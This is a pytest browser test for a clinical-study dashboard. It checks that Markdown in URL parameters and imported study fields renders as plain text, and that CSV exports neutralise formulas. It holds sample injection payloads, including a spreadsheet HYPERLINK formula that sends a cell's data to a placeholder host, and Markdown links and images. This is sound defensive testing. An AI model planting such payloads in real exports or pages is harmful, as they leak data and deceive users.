"""Untrusted text is shown as text, in a real browser (issue #17): Markdown in ``?study=`` and
``?subject=``, and in an imported study's title, sponsor, DM COUNTRY and AE terms, renders as its
own characters (no bold, no link, no image fetched), and a CSV download writes a formula-like AE
term as text.

The hostile study is a small SDTM package (``tests/sdtm_builders.py``) put through the importer,
served by `streamlit run` in local mode from a folder of its own (no secrets file).
"""

import csv
import io
import os
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from dashboard.db import make_engine
from dashboard.importers.run import import_sdtm
from dashboard.markdown import JOINER
from tests.browser_support import ARTIFACTS, PROJECT_ROOT_DIR, streamlit_server
from tests.databases import new_database_url
from tests.sdtm_builders import copy_of_base, write_package

pytestmark = pytest.mark.browser

STUDY = "TINY"
HOSTILE = "**bold** [link](https://example.org) ![img](http://127.0.0.1:9/x.png)"
IN_URL = "**Session expired** [sign in](https://example.org)"
TITLE = f"Title {HOSTILE}"
SPONSOR = f"Sponsor {HOSTILE}"
COUNTRY = "**DEU** [c](https://example.org)"
AE_TERM = '=HYPERLINK("https://example.org/?x="&A1,"Click")'
AE_DECOD = "**Headache** [pt](https://example.org)"
SUBJECT = "TINY-01-001"


def _hostile_package(folder: Path) -> Path:
    tables = copy_of_base()
    tables["TS"] = [r for r in tables["TS"] if r["TSPARMCD"] not in ("TITLE", "SPONSOR")] + [
        {"STUDYID": STUDY, "TSPARMCD": "TITLE", "TSVAL": TITLE},
        {"STUDYID": STUDY, "TSPARMCD": "SPONSOR", "TSVAL": SPONSOR},
    ]
    for row in tables["DM"]:
        if row["USUBJID"] == SUBJECT:
            row["COUNTRY"] = COUNTRY
    first = tables["AE"][0]
    first.update(AETERM=AE_TERM, AEDECOD=AE_DECOD, AESER="Y")
    return write_package(folder, tables)


@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    folder = tmp_path_factory.mktemp("plain-text")
    url = new_database_url(folder, "hostile")
    engine = make_engine(url)
    import_sdtm(engine, _hostile_package(folder / "sdtm"))
    engine.dispose()
    # Served from a folder with the project's config and no secrets: local mode, an empty user table.
    shutil.copytree(PROJECT_ROOT_DIR / ".streamlit", folder / ".streamlit")
    (folder / ".streamlit" / "secrets.toml").unlink(missing_ok=True)
    ARTIFACTS.mkdir(exist_ok=True)
    env = {k: v for k, v in os.environ.items() if k != "STUDY_MONITOR_REQUIRE_SIGN_IN"}
    env["DATABASE_URL"] = url
    with streamlit_server(env=env, log=ARTIFACTS / "server-plain-text.log", cwd=folder) as base:
        yield base


def _open(page: Any, url: str, *, wait_for: str) -> str:
    """Open ``url``, wait until ``wait_for`` is on screen and the run has ended; the main area's
    text as a reader sees it (word joiners are invisible)."""
    page.goto(url)
    page.wait_for_selector('[data-testid="stApp"]', timeout=30_000)
    page.get_by_text(wait_for, exact=False).first.wait_for(timeout=30_000)
    page.wait_for_function(
        "() => document.querySelectorAll('[data-testid=\"stSkeleton\"]').length === 0",
        timeout=30_000,
    )
    page.wait_for_timeout(500)
    assert page.locator('[data-testid="stException"]').count() == 0
    return str(page.locator('[data-testid="stApp"]').inner_text()).replace(JOINER, "")


def _nothing_rendered(page: Any) -> None:
    """No link to the hostile address, no image from it, no bold made of the hostile text."""
    links = page.locator('a[href^="https://example.org"], a[href^="http://127.0.0.1:9"]')
    assert links.count() == 0, links.first.evaluate("a => a.outerHTML")
    images = page.locator('img[src*="127.0.0.1:9"], img[src*="example.org"]')
    assert images.count() == 0
    bold = page.locator("strong, b").evaluate_all("els => els.map(e => e.innerText.trim())")
    made = {"bold", "Session expired", "DEU", "Headache"}
    assert not made & {text.replace("\u2060", "") for text in bold}, bold


def test_markdown_in_the_url_and_the_data_shows_as_text(browser: Any, hostile_server: str) -> None:
    context = browser.new_context(viewport={"width": 1400, "height": 2000}, accept_downloads=True)
    page = context.new_page()
    fetched: list[str] = []
    page.on("request", lambda r: fetched.append(r.url) if "127.0.0.1:9" in r.url else None)
    try:
        # ?study= names no study: the warning quotes it, as text.
        text = _open(
            page, f"{hostile_server}/?study={quote(IN_URL)}", wait_for="Monitoring-meeting pack"
        )
        assert f"Study {IN_URL} is not in this database" in text
        _nothing_rendered(page)
        # The study's own title and sponsor, from TS: the page title and the identity lines.
        assert TITLE in page.locator("h1").first.inner_text().replace(JOINER, "")
        assert f"Sponsor: {SPONSOR}" in text
        page.screenshot(path=str(ARTIFACTS / "plain-text-overview.png"), full_page=True)

        # ?subject= names no subject: quoted as text.
        text = _open(
            page,
            f"{hostile_server}/subject?study={STUDY}&subject={quote(IN_URL)}",
            wait_for="No subject",
        )
        assert f"No subject {IN_URL} in study {STUDY}" in text
        _nothing_rendered(page)

        # The subject's country (DM COUNTRY) in the line of facts under the code.
        text = _open(
            page, f"{hostile_server}/subject?study={STUDY}&subject={SUBJECT}", wait_for="screened"
        )
        assert COUNTRY in text
        _nothing_rendered(page)
        page.screenshot(path=str(ARTIFACTS / "plain-text-subject.png"), full_page=True)

        # Adverse events: the terms are in the grids (text), and the SAE listing's CSV writes the
        # formula-like verbatim term as text.
        _open(page, f"{hostile_server}/adverse-events?study={STUDY}", wait_for="Download CSV")
        _nothing_rendered(page)
        page.screenshot(path=str(ARTIFACTS / "plain-text-adverse-events.png"), full_page=True)
        button = page.locator('[data-testid="stDownloadButton"] button:visible').filter(
            has_text="Download CSV"
        )
        with page.expect_download(timeout=60_000) as started:
            button.first.click()
        download = started.value
        assert download.suggested_filename == f"{STUDY}-serious-adverse-events.csv"
        data = Path(download.path()).read_bytes()
        shutil.copy(download.path(), ARTIFACTS / "plain-text-saes.csv")
        rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
        cells = [cell for row in rows for cell in row.values()]
        assert f"'{AE_TERM}" in cells
        assert AE_TERM not in cells and not any(c.startswith("=") for c in cells)
    finally:
        context.close()
    assert fetched == []  # the hostile image was never requested
